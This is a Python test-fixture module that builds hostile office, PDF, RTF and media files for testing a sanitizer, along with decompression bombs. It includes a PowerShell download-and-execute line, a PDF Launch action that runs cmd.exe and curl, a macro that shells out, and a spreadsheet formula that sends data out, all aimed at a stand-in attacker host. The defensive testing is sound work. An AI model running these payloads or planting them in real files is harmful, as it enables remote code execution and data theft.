"""Hostile files, built in the test (issue 18 §2, §3): what a reviewer sent to staff.

Each one is a small valid file of its kind carrying something that must never reach the
person who opens it: script or program code, actions that run or call out when the file
is opened, references to files on the network, names and e-mail addresses of the people
who edited it, a photo with GPS inside it; or a file a few hundred kilobytes long that
unfolds into gigabytes when decoded.
"""

from __future__ import annotations

import io
import zipfile
import zlib

import numpy as np
import soundfile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.storage.media.samples import jpeg_with_gps

AUTHOR = "Olha Kovalenko"
E_MAIL = "olha.kovalenko@example.org"
ATTACKER = "attacker.example"
SHARE = r"\\fileserver\share"
STORY = "They took half the food"

# What must appear in no stored copy of any hostile document, whatever its kind.
NEVER_STORED = (
    AUTHOR.encode(),
    E_MAIL.encode(),
    b"example.org",
    ATTACKER.encode(),
    b"fileserver",
    b"PhoneMaker",  # the camera of the photo inside
    b"Exif",
)

HTA = (
    b'<html><head><title>Invoice</title><hta:application id="app" windowstate="minimize"/>\n'
    b'<script language="VBScript">\n'
    b'Set shell = CreateObject("WScript.Shell")\n'
    b'shell.Run "powershell -w hidden -c iwr http://attacker.example/a.ps1 | iex", 0\n'
    b"window.close()\n</script></head><body>Invoice</body></html>\n"
)


def _name(value: str) -> NameObject:
    return NameObject(value)


def pdf_attack() -> bytes:
    """A one-page PDF that runs JavaScript when the page opens (/AA), launches a program
    when the document opens (/Launch), calls a tracking address when clicked (/URI),
    carries a sticky note signed with its author's name and e-mail and a JPEG with GPS
    as an embedded file, and names its author in /Info; the page shows one line."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 200)
    font = writer._add_object(
        DictionaryObject(
            {
                _name("/Type"): _name("/Font"),
                _name("/Subtype"): _name("/Type1"),
                _name("/BaseFont"): _name("/Helvetica"),
            }
        )
    )
    page[_name("/Resources")] = DictionaryObject(
        {_name("/Font"): DictionaryObject({_name("/F1"): font})}
    )
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 14 Tf 20 100 Td ({STORY}) Tj ET".encode("ascii"))
    page[_name("/Contents")] = writer._add_object(content)
    page[_name("/AA")] = DictionaryObject(
        {
            _name("/O"): DictionaryObject(
                {
                    _name("/S"): _name("/JavaScript"),
                    _name("/JS"): TextStringObject(f"app.launchURL('http://{ATTACKER}/o');"),
                }
            )
        }
    )
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {
            _name("/S"): _name("/Launch"),
            _name("/F"): TextStringObject("cmd.exe"),
            _name("/Win"): DictionaryObject(
                {
                    _name("/F"): TextStringObject("cmd.exe"),
                    _name("/P"): TextStringObject(f"/c curl http://{ATTACKER}/l"),
                }
            ),
        }
    )
    rect = ArrayObject([FloatObject(v) for v in (10, 10, 120, 40)])
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): rect,
            _name("/A"): DictionaryObject(
                {
                    _name("/S"): _name("/URI"),
                    _name("/URI"): TextStringObject(f"http://{ATTACKER}/track"),
                }
            ),
        }
    )
    note = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Text"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in (200, 150, 220, 170)]),
            _name("/T"): TextStringObject(AUTHOR),
            _name("/Contents"): TextStringObject(f"Write to me: {E_MAIL}"),
            _name("/F"): NumberObject(4),
        }
    )
    page[_name("/Annots")] = ArrayObject([writer._add_object(link), writer._add_object(note)])
    writer.add_attachment("photo.jpg", jpeg_with_gps())
    script = DictionaryObject(
        {
            _name("/S"): _name("/JavaScript"),
            _name("/JS"): TextStringObject(f"app.launchURL('http://{ATTACKER}/doc');"),
        }
    )
    names = writer._root_object[_name("/Names")].get_object()
    names[_name("/JavaScript")] = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("open"), writer._add_object(script)])}
    )
    writer.add_metadata({"/Author": AUTHOR, "/Creator": "PhoneScanner 3"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def _zip(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def docx_attack(*, macro: bool = False) -> bytes:
    """A DOCX whose text, table and photo are what the reporter meant to send, and whose
    other parts reach out: an OLE object linked to an http address, a template on a
    network share (Word fetches both on opening, leaking the reader's address and
    Windows credentials), a hyperlink, an INCLUDEPICTURE field; comments, people and
    custom XML naming the author; the photo keeps its GPS; with ``macro`` a VBA project."""
    document = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="{_W}" xmlns:r="{_R}"
 xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"
 xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">
<w:body>
<w:p><w:r><w:t>{STORY}.</w:t></w:r><w:commentRangeStart w:id="0"/>
<w:ins w:id="1" w:author="{AUTHOR}" w:date="2025-01-01T10:00:00Z"><w:r><w:t xml:space="preserve"> Twice.</w:t></w:r></w:ins>
<w:del w:id="2" w:author="{AUTHOR}"><w:r><w:delText>Deleted by {AUTHOR}</w:delText></w:r></w:del>
<w:r><w:commentReference w:id="0"/></w:r></w:p>
<w:p><w:hyperlink r:id="rId10"><w:r><w:t>See the list</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://{ATTACKER}/pixel.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Village</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>Kits</w:t></w:r></w:p></w:tc></w:tr>
<w:tr><w:tc><w:p><w:r><w:t>Bilohirka</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>12</w:t></w:r></w:p></w:tc></w:tr></w:tbl>
<w:p><w:r><w:drawing><wp:inline><wp:extent cx="609600" cy="457200"/><wp:docPr id="1" name="Photo"/>
<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">
<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rId5"/></pic:blipFill></pic:pic>
</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>
</w:body></w:document>"""
    rels = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="{_REL}">
<Relationship Id="rId5" Type="{_R}/image" Target="media/image1.jpeg"/>
<Relationship Id="rId9" Type="{_R}/oleObject" Target="http://{ATTACKER}/payload.doc" TargetMode="External"/>
<Relationship Id="rId10" Type="{_R}/hyperlink" Target="http://{ATTACKER}/track" TargetMode="External"/>
<Relationship Id="rId11" Type="{_R}/comments" Target="comments.xml"/>
<Relationship Id="rId12" Type="http://schemas.microsoft.com/office/2011/relationships/people" Target="people.xml"/>
<Relationship Id="rId13" Type="{_R}/settings" Target="settings.xml"/>
</Relationships>"""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f"""<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="{_CT}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>""",
        "_rels/.rels": f"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="{_REL}"><Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>
</Relationships>""",
        "docProps/core.xml": f"<cp:coreProperties><dc:creator>{AUTHOR}</dc:creator></cp:coreProperties>",
        "word/document.xml": document,
        "word/_rels/document.xml.rels": rels,
        "word/media/image1.jpeg": jpeg_with_gps(),
        "word/settings.xml": f'<w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{_REL}">'
        f'<Relationship Id="rId1" Type="{_R}/attachedTemplate" '
        f'Target="file:///{SHARE}\\Normal.dotm" TargetMode="External"/></Relationships>',
        "word/comments.xml": f'<w:comments xmlns:w="{_W}"><w:comment w:id="0" '
        f'w:author="{AUTHOR}" w:initials="OK"><w:p><w:r><w:t>ask {E_MAIL}</w:t></w:r></w:p>'
        "</w:comment></w:comments>",
        "word/people.xml": '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/'
        f'wordml"><w15:person w15:author="{AUTHOR}"><w15:presenceInfo w15:providerId="AD" '
        f'w15:userId="{E_MAIL}"/></w15:person></w15:people>',
        "customXml/item1.xml": f"<employee><name>{AUTHOR}</name><mail>{E_MAIL}</mail></employee>",
    }
    if macro:
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1AutoOpen Shell" + bytes(64)
    return _zip(parts)


_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx_attack() -> bytes:
    """An XLSX with a distribution list, and beside it the people who commented on it
    (``persons``: display name, e-mail, directory), a threaded comment, a link to a
    workbook on a network share and a formula that calls out on recalculation."""
    sheet = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="{_S}" xmlns:r="{_R}"><sheetData>
<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Kits</t></is></c></row>
<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2"><v>12</v></c>
<c r="C2" t="str"><f>WEBSERVICE("http://{ATTACKER}/?"&amp;A2)</f><v>ok</v></c></row>
<row r="3"><c r="A3" t="inlineStr"><is><t>=HYPERLINK("http://link.test/x","open")</t></is></c></row>
</sheetData></worksheet>"""
    return _zip(
        {
            "[Content_Types].xml": f'<Types xmlns="{_CT}"><Default Extension="xml" '
            'ContentType="application/xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{_REL}"><Relationship Id="rId1" '
            f'Type="{_R}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "docProps/core.xml": f"<cp:coreProperties><dc:creator>{AUTHOR}</dc:creator>"
            "</cp:coreProperties>",
            "xl/workbook.xml": f'<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets>'
            '<sheet name="List" sheetId="1" r:id="rId1"/></sheets>'
            '<externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_REL}">'
            f'<Relationship Id="rId1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{_R}/sharedStrings" Target="sharedStrings.xml"/>'
            f'<Relationship Id="rId3" Type="{_R}/externalLink" '
            'Target="externalLinks/externalLink1.xml"/>'
            '<Relationship Id="rId4" Type="http://schemas.microsoft.com/office/2017/10/'
            'relationships/person" Target="persons/person.xml"/></Relationships>',
            "xl/sharedStrings.xml": f'<sst xmlns="{_S}"><si><t>Village</t></si>'
            f"<si><r><t>{STORY}</t></r></si></sst>",
            "xl/worksheets/sheet1.xml": sheet,
            "xl/persons/person.xml": '<personList xmlns="http://schemas.microsoft.com/office/'
            f'spreadsheetml/2018/threadedcomments"><person displayName="{AUTHOR}" '
            f'id="{{6A0E}}" userId="{E_MAIL}" providerId="AD"/></personList>',
            "xl/threadedComments/threadedComment1.xml": "<ThreadedComments><threadedComment "
            f'ref="A2" personId="{{6A0E}}"><text>call {E_MAIL}</text></threadedComment>'
            "</ThreadedComments>",
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_S}"><externalBook '
            f'xmlns:r="{_R}" r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_REL}">'
            f'<Relationship Id="rId1" Type="{_R}/externalLinkPath" '
            f'Target="file:///{SHARE}\\budget.xlsx" TargetMode="External"/></Relationships>',
        }
    )


_ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)


def _odf(mimetype: str, body: str, extra: dict[str, bytes | str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODF_NS}>'
            f"<office:body>{body}</office:body></office:document-content>",
        )
        archive.writestr(
            "meta.xml",
            f"<office:document-meta {_ODF_NS}><office:meta><dc:creator>{AUTHOR}</dc:creator>"
            "</office:meta></office:document-meta>",
        )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def odt_attack() -> bytes:
    """An ODT with text, a table and a photo, plus a comment by its author, a link out, a
    macro bound to opening the document and a Basic library."""
    body = (
        "<office:scripts><office:event-listeners><script:event-listener "
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Run'
        '?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
        f"<office:text><text:h>Report</text:h><text:p>{STORY}.<office:annotation>"
        f"<dc:creator>{AUTHOR}</dc:creator><text:p>{E_MAIL}</text:p></office:annotation></text:p>"
        f'<text:p><text:a xlink:href="http://{ATTACKER}/t">See the list</text:a></text:p>'
        "<table:table><table:table-row><table:table-cell><text:p>Bilohirka</text:p>"
        "</table:table-cell><table:table-cell><text:p>12</text:p></table:table-cell>"
        "</table:table-row></table:table>"
        '<text:p><draw:frame><draw:image xlink:href="Pictures/photo.jpg"/></draw:frame></text:p>'
        "</office:text>"
    )
    return _odf(
        "application/vnd.oasis.opendocument.text",
        body,
        {
            "Pictures/photo.jpg": jpeg_with_gps(),
            "Basic/Standard/Module1.xml": f'Sub Run\nShell("curl http://{ATTACKER}")\nEnd Sub',
        },
    )


def ods_sheet(rows: str) -> bytes:
    return _odf(
        "application/vnd.oasis.opendocument.spreadsheet",
        f'<office:spreadsheet><table:table table:name="List">{rows}</table:table>'
        "</office:spreadsheet>",
    )


def ods_attack() -> bytes:
    return ods_sheet(
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Bilohirka'
        "</text:p><office:annotation><dc:creator>"
        f"{AUTHOR}</dc:creator><text:p>{E_MAIL}</text:p></office:annotation></table:table-cell>"
        '<table:table-cell office:value-type="float" office:value="12"><text:p>12</text:p>'
        "</table:table-cell></table:table-row>"
        '<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
        'table:number-columns-repeated="16384"/></table:table-row>'
    )


def rtf_attack() -> bytes:
    """An RTF with an OLE object (the way CVE-2017-11882 documents arrive), a field that
    fetches a picture from an address, and its author in the info group."""
    return (
        rb"{\rtf1\ansi\ansicpg1251{\fonttbl{\f0 Arial;}}"
        rb"{\info{\author Olha Kovalenko}{\operator olha.kovalenko@example.org}}"
        rb"They took half the food.\par "
        rb"\'c2\'e0\'f1\'e8\'eb\'fc \u1111?\par "
        rb"{\field{\*\fldinst INCLUDEPICTURE \\d http://attacker.example/p.png}{\fldrslt see}}\par "
        rb"{\object\objautlink\objupdate{\*\objclass Equation.3}{\*\objdata 0105000002000000"
        rb"0b0000004571756174696f6e2e33}{\result x}}\par}"
    )


# Resource bombs (§3) -----------------------------------------------------------------


def zip_member_bomb(mimetype: str, *, unpacked: int) -> bytes:
    """An ODF whose ``mimetype`` entry unfolds into ``unpacked`` bytes of zeros (about a
    thousand to one): reading it before checking its size is what took the memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("mimetype")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            member.write(mimetype.encode())
            chunk = bytes(1 << 20)
            for _ in range(unpacked >> 20):
                member.write(chunk)
        archive.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def flac_bomb(*, seconds: float = 20.0, channels: int = 8, rate: int = 655_350) -> bytes:
    """Silence in many channels at FLAC's highest sample rate: tiny compressed, hundreds
    of megabytes decoded (8 channels at 655 kHz, 20 s: 420 MB as float32)."""
    out = io.BytesIO()
    block = np.zeros((rate, channels), dtype=np.int16)
    with soundfile.SoundFile(
        out, "w", samplerate=rate, channels=channels, format="FLAC", subtype="PCM_16"
    ) as audio:
        for _ in range(int(seconds)):
            audio.write(block)
    return out.getvalue()


def png_bomb(width: int = 4_900, height: int = 4_900) -> bytes:
    """Just under the pixel cap and compressed to almost nothing: decoding it as RGBA
    holds about 100 MB per copy of the picture."""
    raw = zlib.compress(b"".join(b"\x00" + bytes(width * 4) for _ in range(height)), 9)

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body).to_bytes(4, "big")
        return len(body).to_bytes(4, "big") + kind + body + crc

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 6, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def png_header_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    out = io.BytesIO()
    Image.new("1", (1, 1)).save(out, "PNG")
    data = bytearray(out.getvalue())
    data[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    data[29:33] = zlib.crc32(bytes(data[12:29])).to_bytes(4, "big")
    return bytes(data)


def claiming_zip_version(archive: bytes, version: int) -> bytes:
    """``archive`` with every central directory entry saying it needs ZIP ``version``
    (64: 6.4) to be read: one flipped byte does it, and ``zipfile`` refuses such an
    archive with NotImplementedError, not BadZipFile."""
    data = bytearray(archive)
    at = data.find(b"PK\x01\x02")
    assert at >= 0
    while at >= 0:
        data[at + 6 : at + 8] = version.to_bytes(2, "little")  # version needed to extract
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)
